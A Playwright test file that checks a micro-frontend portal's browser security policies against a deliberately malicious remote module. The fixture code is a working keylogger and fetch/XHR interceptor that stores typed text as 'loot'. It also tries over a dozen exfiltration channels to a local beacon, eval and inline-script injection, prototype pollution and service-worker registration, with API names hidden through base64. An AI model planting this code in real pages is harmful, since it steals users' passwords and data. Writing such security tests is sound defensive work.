import { expect, test as base, type Page } from '@playwright/test';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startFaultProxy } from '../harness/fault-proxy.ts';
import { publishFixture } from '../harness/fixture-remote.ts';
import { startPortal, type Portal } from '../harness/portal.ts';
import { logIn } from '../harness/test.ts';

// Hides names that publishing refuses.
const hidden = (text: string): string => `atob('${btoa(text)}')`;

// Every way to send data out of a page.
const leaks = (beacon: string, port: number): string => `
const beacon = ${hidden(beacon)};
const outcomes = (globalThis.outcomes = {});
const attempt = async (name, act) => {
  try { outcomes[name] = String((await act()) ?? 'done'); } catch (error) { outcomes[name] = 'refused: ' + error.name; }
};
const element = (name, fields) => new Promise((resolve, reject) => {
  const made = Object.assign(document.createElement(name), fields);
  made.onload = () => resolve('loaded'); made.onerror = () => reject(new TypeError('blocked'));
  document.body.append(made);
});
const lost = (source) => new Promise((_, reject) => { source.onerror = () => reject(new TypeError('blocked')); });
const leakAll = async () => {
  await attempt('fetch', () => fetch(beacon + '/fetch', { mode: 'no-cors' }));
  await attempt('beacon', () => navigator.sendBeacon(beacon + '/beacon', 'loot'));
  await attempt('image', () => element('img', { src: beacon + '/image' }));
  await attempt('style', () => element('link', { rel: 'stylesheet', href: beacon + '/style' }));
  await attempt('script', () => element('script', { src: beacon + '/script' }));
  await attempt('frame', () => element('iframe', { src: beacon + '/frame' }));
  await attempt('socket', () => lost(new WebSocket(beacon.replace('http', 'ws') + '/socket')));
  await attempt('events', () => lost(new EventSource(beacon + '/events')));
  await attempt('background', async () => { document.body.style.backgroundImage = 'url(' + beacon + '/background)'; });
  await attempt('prefetch', async () => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: beacon + '/prefetch' }));
  });
  await attempt('form', async () => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action: beacon + '/form', target: 'elsewhere' });
    document.body.append(form); form.submit();
  });
  await attempt('webrtc', async () => {
    const iceServers = [{ urls: 'turn:127.0.0.1:${port}', username: 'loot', credential: 'x' }];
    const peer = (globalThis.peer = new globalThis[${hidden('RTCPeerConnection')}]({ iceServers }));
    peer.createDataChannel('loot');
    await peer.setLocalDescription();
  });
  await attempt('webtransport', async () => {
    new globalThis[${hidden('WebTransport')}](${hidden(`https://127.0.0.1:${port}/`)}).ready.catch(() => undefined);
  });
};`;

/** The names under which they arrive at the beacon. */
const ways = [
  'background',
  'beacon',
  'download',
  'events',
  'fetch',
  'form',
  'frame',
  'image',
  'nav204',
  'ping',
  'prefetch',
  'script',
  'socket',
  'style',
  'webrtc',
  'webtransport',
];

// Attacks of a team's code. Each records its outcome.
const evil = (beacon: string, port: number): string => `
const loot = JSON.parse(localStorage.getItem('loot') ?? '[]');
const take = (what) => { loot.push(String(what)); localStorage.setItem('loot', JSON.stringify(loot)); };

const spy = () => {
  for (const name of ['keydown', 'keyup', 'input', 'change', 'submit', 'paste'])
    document.addEventListener(name, ({ target, key }) => take(key ?? target?.value), true);
  const { fetch } = globalThis;
  globalThis.fetch = (url, init) => { take(init?.body ?? url); return fetch(url, init); };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) { take(body); return send.call(this, body); };
  new MutationObserver(() => document.querySelectorAll('input').forEach(({ value }) => value && take(value)))
    .observe(document, { subtree: true, childList: true, attributes: true });
  const { value } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value') ?? {};
  take('spying ' + typeof value);
};

${leaks(beacon, port)}
const tryAll = async () => {
  spy();
  await leakAll();
  await attempt('own frame', () => element('iframe', { src: '/login' }).then(() => document.querySelector('iframe[src="/login"]').contentDocument?.querySelector('form') ? 'framed' : 'empty'));
  await attempt('eval', () => (0, globalThis['ev' + 'al'])('globalThis.evaluated = true'));
  await attempt('function', () => new globalThis['Fun' + 'ction']('globalThis.evaluated = true')());
  await attempt('timer', () => setTimeout('globalThis.evaluated = true'));
  await attempt('inline', async () => {
    const script = document.createElement('script'); script.textContent = 'globalThis.evaluated = true'; document.body.append(script);
  });
  await attempt('markup', async () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.evaluated = true">'); });
  await attempt('own policy', () => trustedTypes.createPolicy('mine', { createScriptURL: (text) => text }));
  await attempt('unhashed', () => element('script', { src: '/assets/../mf/mf_evil/x.js' }));
  await attempt('worker', () => navigator[${hidden('serviceWorker')}].register(new URL(document.querySelector('script[src*="/mf/mf_evil/"]').src).pathname));
  Object.prototype.polluted = 'yes';
  Array.prototype.find = () => undefined;
  const { pushState } = history;
  history.pushState = function (state, title, to) { return pushState.call(this, state, title, String(to).replace('/account', '/evil')); };
  globalThis.isOver = true;
};
const Page = () => <h1 tabIndex={-1}>Nothing to see</h1>;
export default { '/evil': { Component: Page, title: 'Evil', loader: async () => { await tryAll(); } } };`;

interface Beacon {
  url: string;
  /** The UDP port for everything that is not HTTP. */
  port: number;
  hits: string[];
  stop: () => void;
}

// TURN error 401 with realm and nonce, which makes the client send its user name.
const challenge = (request: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from([0x01, 0x13, 0, 24]),
    request.subarray(4, 20),
    Buffer.from('\0\x09\0\x04\0\0\x04\x01\0\x14\0\x04here\0\x15\0\x04once', 'latin1'),
  ]);

const listen = async (hits: string[]) => {
  const socket = createSocket('udp4');
  socket.on('message', (message, { port, address }) => {
    // Only the first packet of QUIC has the first bit set.
    if ((message[0] ?? 0) & 0x80) hits.push('/webtransport');
    else if (message.includes('loot')) hits.push('/webrtc');
    else socket.send(challenge(message), port, address);
  });
  socket.bind(0, '127.0.0.1');
  await once(socket, 'listening');
  return socket;
};

const answers: Record<string, [number, Record<string, string>]> = {
  '/free': [200, { 'content-type': 'text/html' }],
  '/nav204': [204, {}],
  '/download': [200, { 'content-disposition': 'attachment' }],
};

const startBeacon = async (): Promise<Beacon> => {
  const hits: string[] = [];
  const socket = await listen(hits);
  const udp = socket.address().port;
  const free = `<body><script>${leaks('', udp)}\nleakAll().then(() => { globalThis.isOver = true; });</script>`;
  const server = createServer(({ url = '' }, response) => {
    hits.push(url);
    const [status, headers] = answers[url] ?? [200, {}];
    response.writeHead(status, { 'access-control-allow-origin': '*', ...headers });
    response.end(url === '/free' ? free : '');
  });
  server.on('upgrade', ({ url }, socket) => {
    hits.push(url ?? '');
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const stop = () => {
    server.close();
    socket.close();
  };
  return { url: `http://localhost:${port}`, port: udp, hits, stop };
};

const test = base.extend<object, { portal: Portal; beacon: Beacon }>({
  beacon: [
    async ({}, use) => {
      const beacon = await startBeacon();
      await use(beacon);
      beacon.stop();
    },
    { scope: 'worker' },
  ],
  portal: [
    async ({ beacon }, use) => {
      const portal = await startPortal({ GUIDE_URL: `${beacon.url}/guide` });
      await publishFixture(
        {
          id: 'mf_evil',
          title: 'Evil',
          pages: [{ path: '/evil', access: 'public' }],
          routes: evil(beacon.url, beacon.port),
        },
        portal,
      );
      await use(portal);
      await portal.stop();
    },
    { scope: 'worker', timeout: 180_000 },
  ],
  baseURL: async ({ portal }, use) => use(portal.url),
});

// Wait for the end, because Chromium crashes if a document is left while the policy refuses its form.
const visitEvil = async (page: Page): Promise<Record<string, string>> => {
  await page.goto('/evil');
  await isOver(page);
  return page.evaluate(() => (globalThis as unknown as { outcomes: Record<string, string> }).outcomes);
};

const lootOf = (page: Page): Promise<string> => page.evaluate(() => localStorage.getItem('loot') ?? '');

const isOver = (page: Page) => page.waitForFunction(() => 'isOver' in globalThis, null, { timeout: 20_000 });

// Sends a ping by clicking a link. Separate from the other attacks, because a click would disturb a page that is still loading.
const ping = (page: Page, beacon: string): Promise<void> =>
  page.evaluate((to) => {
    const link = Object.assign(document.createElement('a'), { href: '#pinged', ping: `${to}/ping` });
    document.body.append(link);
    link.click();
  }, beacon);

/** Requests that leave the current page in place. */
const unseen: Record<string, (to: string) => void> = {
  nav204: (to) => location.assign(`${to}/nav204`),
  download: (to) =>
    Object.assign(document.createElement('a'), { href: `${to}/download`, download: 'loot' }).click(),
};

/** All ways for a script to navigate away. */
const scripted: Record<string, (to: string) => void> = {
  ...unseen,
  'in place of this page': (to) => location.replace(`${to}/nav204`),
  'by its own name': (to) => void window.open(`${to}/nav204`, '_self'),
  'by the history': (to) => void navigation.navigate(`${to}/nav204`).committed?.catch(() => undefined),
  'by a pretended click': (to) => {
    const link = Object.assign(document.createElement('a'), { href: `${to}/nav204` });
    document.body.append(link);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  },
  'after a moment': (to) =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${to}/nav204` }),
    ),
  'from a frame of its own': (to) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow?.parent.location.assign(`${to}/nav204`);
  },
  'to a page without the shell': () =>
    location.assign(URL.createObjectURL(new Blob(['<p>bare</p>'], { type: 'text/html' }))),
};

/** Stores the page's last navigation event. Registered before all other scripts, so that none can prevent it. */
const watchNavigations = (page: Page): Promise<unknown> =>
  page.addInitScript(() => {
    navigation.addEventListener('navigate', (event) => Object.assign(globalThis, { last: event }));
  });

/** Returns target and outcome of the last navigation event, and clears it. */
const lastNavigation = (page: Page): Promise<string> =>
  page.evaluate(() => {
    const watched = globalThis as unknown as { last?: NavigateEvent };
    const { last } = watched;
    watched.last = undefined;
    return last ? `${last.destination.url} ${last.defaultPrevented ? 'refused' : 'begun'}` : 'none';
  });

const arrived = ({ hits }: Beacon): string[] =>
  [...new Set(hits.map((hit) => hit.slice(1)))].filter((name) => ways.includes(name)).sort();

test('control: a page without the portal’s policies sends data in all these ways', async ({ page }) => {
  // Use a separate beacon, because UDP packets are repeated and could be counted in a later test.
  const beacon = await startBeacon();
  await page.goto(`${beacon.url}/free`);
  await isOver(page);
  await ping(page, beacon.url);
  for (const [name, act] of Object.entries(unseen)) {
    await page.evaluate(act, beacon.url);
    await expect.poll(() => arrived(beacon)).toContain(name);
  }
  await expect.poll(() => arrived(beacon)).toEqual(ways);
  expect(new URL(page.url()).pathname, 'nothing seen of it').toBe('/free');
  beacon.stop();
});

test('control: a script navigates away from such a page in all these ways', async ({ page }) => {
  const beacon = await startBeacon();
  const isLed = (): boolean =>
    beacon.hits.some((hit) => /nav204|download/.test(hit)) || page.url().startsWith('blob:');
  for (const [name, act] of Object.entries(scripted)) {
    // Each begins on a new page, because the browser may still be handling the previous navigation.
    await page.goto(`${beacon.url}/about`);
    beacon.hits.length = 0;
    await page.evaluate(act, beacon.url);
    await expect.poll(isLed, name).toBe(true);
  }
  beacon.stop();
});

test('a malicious remote runs but cannot send data out of the portal', async ({ page, beacon }) => {
  await page.addInitScript(() => {
    const refusals: string[] = [];
    Object.assign(globalThis, { refusals });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refusals.push(effectiveDirective),
    );
  });
  const outcomes = await visitEvil(page);
  await ping(page, beacon.url);
  // Give pending requests the time of a further page load.
  await page.goto('/about');
  await expect(page.getByRole('heading', { level: 1, name: 'About' })).toBeVisible();
  expect(arrived(beacon)).toEqual([]);
  await visitEvil(page);
  // Refused frames, forms and similar report no error to the script.
  const refused = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('refused'));
  expect(refused.map(([name]) => name).sort()).toEqual(
    [
      'eval',
      'events',
      'fetch',
      'function',
      'image',
      'inline',
      'markup',
      'own policy',
      'script',
      'socket',
      'style',
      'timer',
      'unhashed',
      'webrtc',
      'webtransport',
      'worker',
    ].sort(),
  );
  expect(outcomes['own frame']).not.toBe('framed');
  expect(await page.evaluate(() => 'evaluated' in globalThis)).toBe(false);
  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  // The browser sends reports of violations when it is idle.
  await expect
    .poll(() => page.evaluate(() => (globalThis as { refusals?: string[] }).refusals))
    .toEqual(expect.arrayContaining(['connect-src', 'frame-src', 'img-src', 'style-src-elem']));
});

test('no script can navigate to another origin', async ({ page, beacon }) => {
  await watchNavigations(page);
  await visitEvil(page);
  await lastNavigation(page);
  await page.evaluate(() => {
    Event.prototype.preventDefault = () => undefined;
    for (const name of ['canIntercept', 'userInitiated', 'preventDefault'])
      Reflect.defineProperty(NavigateEvent.prototype, name, { value: true });
    Reflect.defineProperty(NavigationDestination.prototype, 'url', { value: 'blob:' });
  });
  for (const [name, act] of Object.entries(scripted)) {
    await page.evaluate(act, beacon.url);
    await expect.poll(() => lastNavigation(page), name).toMatch(/refused$/);
  }
  await page.goto('/about');
  expect(arrived(beacon)).toEqual([]);
});

test('users can follow links to other origins', async ({ page, beacon }) => {
  await watchNavigations(page);
  await page.goto('/about');
  await page.getByRole('contentinfo').getByRole('link', { name: 'Guide' }).click();
  await page.waitForURL(`${beacon.url}/guide`);
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1, name: 'About' })).toBeVisible();
  await page.goto('/guide');
  await page.waitForURL(`${beacon.url}/guide`);
  await page.goto('/contact');
  await page.getByRole('link', { name: /@/ }).click();
  expect(await lastNavigation(page)).toBe('mailto:contact@example.org begun');
});

test('known gaps: a window it opens, a link the user clicks, a peer connection from a frame', async ({
  page,
  beacon,
}) => {
  await visitEvil(page);
  const opened = page.waitForEvent('popup');
  await page.evaluate((to) => void window.open(`${to}/opened?loot`), beacon.url);
  await opened;
  await page.evaluate(
    ({ url, port, name }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const Peer = (frame.contentWindow as unknown as Record<string, typeof RTCPeerConnection>)[name];
      if (!Peer) throw new Error('a frame without peers');
      const urls = `turn:127.0.0.1:${port}`;
      const peer = new Peer({ iceServers: [{ urls, username: 'loot', credential: 'x' }] });
      Object.assign(globalThis, { peer });
      peer.createDataChannel('loot');
      void peer.setLocalDescription();
      const link = Object.assign(document.createElement('a'), {
        href: `${url}/taken?loot`,
        textContent: 'More',
      });
      document.querySelector('main')?.append(link);
    },
    { url: beacon.url, port: beacon.port, name: 'RTCPeerConnection' },
  );
  await expect.poll(() => arrived(beacon)).toEqual(['webrtc']);
  await page.getByRole('link', { name: 'More' }).click();
  await page.waitForURL(`${beacon.url}/taken?loot`);
  await expect
    .poll(() => beacon.hits.filter((hit) => hit.endsWith('?loot')).sort())
    .toEqual(['/opened?loot', '/taken?loot']);
});

test('no page can show the portal in a frame', async ({ page, portal, beacon }) => {
  await page.goto(`${beacon.url}/frame`);
  const framed = (address: string) =>
    page.evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src });
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.onload = resolve;
      });
    }, address);
  await framed(`${beacon.url}/free`);
  await framed(`${portal.url}/login`);
  const urls = () => page.frames().map((frame) => frame.url());
  await expect.poll(urls, 'the control').toContain(`${beacon.url}/free`);
  expect(urls()).not.toContain(`${portal.url}/login`);
});

test('text typed on pages with a password never reaches the remote', async ({ page }) => {
  await visitEvil(page);
  const canary = 'canary-Xylophone7';
  // Control: on its own page it reads every key.
  await page.evaluate(() => document.querySelector('main')?.append(document.createElement('input')));
  await page.locator('main input').pressSequentially('overheard');
  expect(await lootOf(page)).toContain('overheard');

  const loads: string[] = [];
  page.on('request', (request) => {
    if (request.isNavigationRequest()) loads.push(new URL(request.url()).pathname);
  });
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Login' }).click();
  await page.getByLabel('Email').fill('parent@example.org');
  await page.getByLabel('Password', { exact: true }).pressSequentially(canary);
  expect(loads, 'another document').toContain('/login');
  expect(await page.evaluate(() => ['outcomes' in globalThis, 'polluted' in {}, [1].find(Boolean)])).toEqual([
    false,
    false,
    1,
  ]);
  await page.getByRole('button', { name: 'Login' }).click();
  await expect(page.getByRole('main').getByRole('alert').first()).toBeVisible();
  for (const [path, takes] of [
    ['/signup', page.getByLabel('Password', { exact: true })],
    ['/resetpassword/getcode', page.getByLabel('Email')],
    [`/resetpassword/${'d'.repeat(32)}`, page.getByLabel('New password')],
    [`/confirmemail/${'c'.repeat(32)}`, undefined],
  ] as const) {
    await visitEvil(page);
    await page.goto(path);
    await (takes?.pressSequentially(canary) ?? page.getByText('Failed to verify your email!').waitFor());
    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
  }
  const loot = await lootOf(page);
  expect(loot).not.toContain(canary);
  expect(loot).not.toContain('cccccccc');
  expect(loot).not.toContain('dddddddd');
});

test('the account page runs no code of the remote, even through a link it has changed', async ({ page }) => {
  await logIn(page, 'teacher');
  await visitEvil(page);
  await page.getByRole('navigation').getByRole('button', { name: 'Manage' }).click();
  await page.getByRole('navigation').getByRole('link', { name: 'Account' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Manage Account' })).toBeVisible();
  expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
  const password = page.locator('input[type=password]').first();
  await password.pressSequentially('canary-Bassoon7');
  expect(await lootOf(page)).not.toContain('canary-Bassoon7');
});

test.describe('unapproved code', () => {
  for (const [what, path] of [
    ['entry', /^\/mf\/mf_evil\/.*\/remoteEntry/],
    ['chunk', /^\/mf\/mf_evil\/.*\/__federation_expose_routes/],
  ] as const) {
    test(`does not run with a changed byte in the ${what}`, async ({ page, portal }) => {
      const proxy = await startFaultProxy(portal.url);
      proxy.fail({ path, kind: 'tampered' });
      await page.goto(`${proxy.url}/evil`);
      await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
      expect(await page.evaluate(() => ['outcomes' in globalThis, 'foreign' in globalThis])).toEqual([
        false,
        false,
      ]);
      await expect.poll(() => portal.output()).toMatch(new RegExp(`"hop":"${what}","kind":"integrity"`));
      proxy.stop();
    });
  }

  test('does not run without a hash of the entry', async ({ page, portal }) => {
    const proxy = await startFaultProxy(portal.url);
    proxy.rewrite((html) => html.replaceAll(/"integrity":\{[^}]*\}/g, '"integrity":{}'));
    await page.goto(`${proxy.url}/evil`);
    await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(false);
    proxy.stop();
  });

  test('does not run from another origin', async ({ page, portal, beacon }) => {
    const proxy = await startFaultProxy(portal.url);
    proxy.rewrite((html) => html.replaceAll('"base":"/mf/mf_evil/', `"base":"${beacon.url}/mf/mf_evil/`));
    await page.goto(`${proxy.url}/evil`);
    await expect(page.getByRole('heading', { level: 1, name: 'Evil could not be loaded' })).toBeVisible();
    expect(beacon.hits.filter((hit) => hit.includes('mf_evil'))).toEqual([]);
    proxy.stop();
  });
});
